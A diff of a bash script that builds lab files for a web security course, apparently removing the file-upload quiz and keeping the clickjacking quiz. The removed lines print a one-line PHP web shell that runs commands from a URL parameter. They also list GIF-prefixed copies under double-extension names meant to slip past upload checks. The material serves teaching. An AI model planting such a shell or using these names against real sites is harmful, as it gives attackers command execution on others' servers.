@@ -1,17 +1,9 @@
 #!/bin/bash
 # Writes the generated lab files of web security module 5 into the folder given as $1:
-# payloads/ (the upload quiz: GIF signatures followed by a PHP web shell, under names that test the upload check
-# and Apache's AddHandler) and responses/ (the clickjacking quiz: eight pages' recorded responses).
+# responses/ (the clickjacking quiz: eight pages' recorded responses).
 set -euo pipefail
 out=${1:?usage: classics.sh FOLDER}
-mkdir -p "$out/payloads" "$out/responses"
-
-shell='<?php system($_GET["c"]); ?>'
-printf '%s\n' "$shell" > "$out/payloads/shell.php"
-printf '%s\n' "$shell" > "$out/payloads/shell.gif"
-for name in avatar.gif avatar.php.gif avatar.php5.gif avatar.gif.php avatar.phtml avatar.gif.phar; do
-  printf 'GIF89a%s\n' "$shell" > "$out/payloads/$name"
-done
+mkdir -p "$out/responses"
 
 # page FILE BODY HEADER...: a 200 response with the common headers, the page's own headers, an empty line, the body
 page() {
